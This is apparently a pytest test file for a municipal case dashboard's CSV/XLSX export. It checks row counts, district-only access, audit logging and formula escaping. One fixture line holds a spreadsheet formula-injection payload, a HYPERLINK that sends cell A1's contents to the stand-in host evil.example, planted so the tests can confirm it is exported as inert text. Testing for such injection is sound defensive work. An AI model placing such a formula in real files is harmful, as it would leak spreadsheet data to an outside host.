"""Case exports (issue 19, item 3): CSV and XLSX over HTTP and from `pingan export cases`, with the
history API's filters; the rows are the SQL count's; text a spreadsheet would run stays text; each
file says who exported it and when; a district's account exports its district only; every export is
in the audit log with its filters and rows."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import timedelta

import openpyxl
import orjson
import pytest
import sqlalchemy as sa

from dashboard.accounts.audit_log import AuditLog
from dashboard.cli import main
from dashboard.contract.settings import Settings
from dashboard.history import export
from dashboard.history.facts import case_facts
from dashboard.history.query import Filter
from dashboard.live.archive import Archive
from dashboard.live.sla import Policies
from dashboard.web.app import create_app
from tests.logins import logged_in
from tests.test_history import (
    PENGJIANG,
    T0,
    TAISHAN,
    _ev,
    _ms,
    _pg_schema_url,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
Q = "from=2026-11-30&to=2026-11-30"


@pytest.fixture
def world(settings: Settings, tmp_path) -> Settings:
    """Twelve cases on 2026-11-30 in two districts, one whose summary is a spreadsheet formula, and one
    on the next day (outside the window)."""
    s = settings.model_copy(update={"archive_url": f"sqlite:///{tmp_path}/export.db", "tile_probe": False,
                                    "tile_url": ""})
    with Archive.from_settings(s) as a:
        a.write([_ev(f"X{n}", 0, "reported", T0 + timedelta(hours=n), reported_at=T0 + timedelta(hours=n),
                     source="110" if n % 3 == 0 else "12345", summary=FORMULA if n == 4 else f"噪音扰民 X{n}",
                     location={"adcode": TAISHAN if n % 2 else PENGJIANG, "lat": 22.25, "lon": 112.79})
                 for n in range(12)])
        a.write([_ev("LATE", 0, "reported", T0 + timedelta(days=1), reported_at=T0 + timedelta(days=1))])
    return s


def _sql_count(s: Settings, **where: str) -> int:
    engine = sa.create_engine(s.archive_url or "")
    c = case_facts.c
    start, end = _ms(T0.replace(hour=0)), _ms(T0.replace(hour=0) + timedelta(days=1))
    conds = [c.received_at >= start, c.received_at < end, *(c[k] == v for k, v in where.items())]
    with engine.connect() as con:
        n = int(con.scalar(sa.select(sa.func.count()).select_from(case_facts).where(*conds)) or 0)
    engine.dispose()
    return n


def _csv(body: bytes) -> tuple[str, list[str], list[list[str]]]:
    text = body.decode("utf-8-sig")
    note, rest = text.split("\r\n", 1)
    rows = list(csv.reader(io.StringIO(rest)))
    return note, rows[0], rows[1:]


def _exports(s: Settings) -> list[tuple[str, str, dict]]:
    log = AuditLog.from_settings(s)
    try:
        return [(row.subject, row.result, orjson.loads(row.detail) if isinstance(row.detail, str) else row.detail)
                for row in log.rows() if row.action == "export.cases"]
    finally:
        log.engine.dispose()


def test_a_csv_and_an_xlsx_export_hold_the_sql_counts_rows_with_formulas_kept_as_text(world):
    app = create_app(world)
    analyst = logged_in(app, world, "fenxi", "analyst")
    resp = analyst.get(f"/api/export/cases.csv?{Q}")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    note, head, rows = _csv(resp.data)
    assert note.startswith("# 导出人 fenxi · 导出时间 ") and "受理时间 2026-11-30 00:00–2026-12-01 00:00" in note
    assert head[0] == "工单编号" and "摘要（已脱敏）" in head
    assert len(rows) == _sql_count(world) == 12 == int(resp.headers["X-Rows"])
    summaries = [r[head.index("摘要（已脱敏）")] for r in rows]
    assert "'" + FORMULA in summaries and FORMULA not in summaries
    assert not any(cell.startswith(export.RISKY) for r in rows for cell in r)
    resp = analyst.get(f"/api/export/cases.xlsx?{Q}&source=12345")
    assert resp.status_code == 200 and resp.headers["X-Rows"] == "8"
    book = openpyxl.load_workbook(io.BytesIO(resp.data), read_only=True)
    sheet = book.worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0].startswith("导出人 fenxi") and values[1][0] == "工单编号"
    assert len(values) - 2 == _sql_count(world, source="12345") == 8
    cells = [v for row in values[2:] for v in row if isinstance(v, str)]
    assert "'" + FORMULA in cells and book.properties.creator == "fenxi"
    assert not any(cell.data_type == "f" for row in openpyxl.load_workbook(io.BytesIO(resp.data)).worksheets[0]
                   .iter_rows() for cell in row)
    assert [(who, result, d["rows"]) for who, result, d in _exports(world)] == [("fenxi", "ok", 12),
                                                                                 ("fenxi", "ok", 8)]
    assert _exports(world)[1][2]["filters"]["source"] == "12345"


def test_a_district_account_exports_its_district_only(world):
    app = create_app(world)
    taishan = logged_in(app, world, "ts-fx", "analyst", TAISHAN)
    _, head, rows = _csv(taishan.get(f"/api/export/cases.csv?{Q}").data)
    assert len(rows) == _sql_count(world, district=TAISHAN) == 6
    assert {r[head.index("区（市）")] for r in rows} == {TAISHAN}
    for fmt in ("csv", "xlsx"):
        resp = taishan.get(f"/api/export/cases.{fmt}?{Q}&district={PENGJIANG}")
        assert resp.status_code == 403 and b"X1" not in resp.data
    assert [r for _, r, _ in _exports(world)] == ["ok", "denied", "denied"]
    duty = logged_in(app, world, "zhiban", "duty")
    assert duty.get(f"/api/export/cases.csv?{Q}").status_code == 403  # a duty officer exports nothing
    assert app.server.test_client().get(f"/api/export/cases.csv?{Q}").status_code == 401


def test_bad_filters_and_too_many_rows_are_refused_with_reasons(world):
    app = create_app(world.model_copy(update={"export_max_rows": 5}))
    analyst = logged_in(app, world, "fenxi", "analyst")
    assert analyst.get("/api/export/cases.csv?from=yesterday&to=2026-11-30").status_code == 400
    assert analyst.get(f"/api/export/cases.csv?{Q}&district=4407").status_code == 400
    resp = analyst.get(f"/api/export/cases.xlsx?{Q}")
    assert resp.status_code == 413 and b"12 cases" in resp.data


def test_pingan_export_cases_writes_csv_and_xlsx_and_is_audited(world, monkeypatch, tmp_path, capsys):
    for key, value in (("ARCHIVE_URL", world.archive_url), ("DATA_DIR", str(world.data_dir))):
        monkeypatch.setenv(f"PINGAN_{key}", value or "")
    out = tmp_path / "taishan.csv"
    assert main(["export", "cases", "--from", "2026-11-30", "--to", "2026-11-30", "--district", TAISHAN,
                 "--format", "csv", "--out", str(out)]) == 0
    note, head, rows = _csv(out.read_bytes())
    assert len(rows) == _sql_count(world, district=TAISHAN) and note.startswith("# 导出人 cli:")
    xlsx = tmp_path / "all.xlsx"
    assert main(["export", "cases", "--from", "2026-11-30", "--to", "2026-12-01", "--source", "110",
                 "--format", "xlsx", "--out", str(xlsx)]) == 0
    sheet = openpyxl.load_workbook(xlsx, read_only=True).worksheets[0]
    assert len(list(sheet.iter_rows(values_only=True))) - 2 == 4  # 110's four; the next day's case is 12345's
    assert "13 cases" not in capsys.readouterr().out
    assert [(d["rows"], d["filters"]["source"]) for _, _, d in _exports(world)] == [(6, ""), (4, "110")]
    assert main(["export", "cases", "--from", "2026-11-30", "--to", "2026-11-30", "--district", "9999",
                 "--out", str(out)]) == 2


@pytest.fixture(params=["sqlite", "postgresql"])
def archive(request: pytest.FixtureRequest, tmp_path) -> Iterator[Archive]:
    a = Archive(f"sqlite:///{tmp_path}/a.db" if request.param == "sqlite" else _pg_schema_url(request), Policies.load())
    yield a
    a.close()


def test_the_export_reads_rows_as_the_count_counts_them_on_sqlite_and_postgresql(archive):
    archive.write([_ev(f"Y{n}", 0, "reported", T0 + timedelta(hours=n), reported_at=T0 + timedelta(hours=n),
                       location={"adcode": TAISHAN if n % 2 else PENGJIANG}) for n in range(9)])
    f = Filter(start=_ms(T0.replace(hour=0)), end=_ms(T0.replace(hour=0) + timedelta(days=1)))
    lines = list(export.rows(archive.engine, "district", TAISHAN, f))
    assert export.count(archive.engine, "district", TAISHAN, f) == len(lines) == 4
    assert [r[0] for r in lines] == sorted(r[0] for r in lines)  # oldest received first (Y1, Y3, Y5, Y7)
    assert export.count(archive.engine, "city", "440700", f) == 9
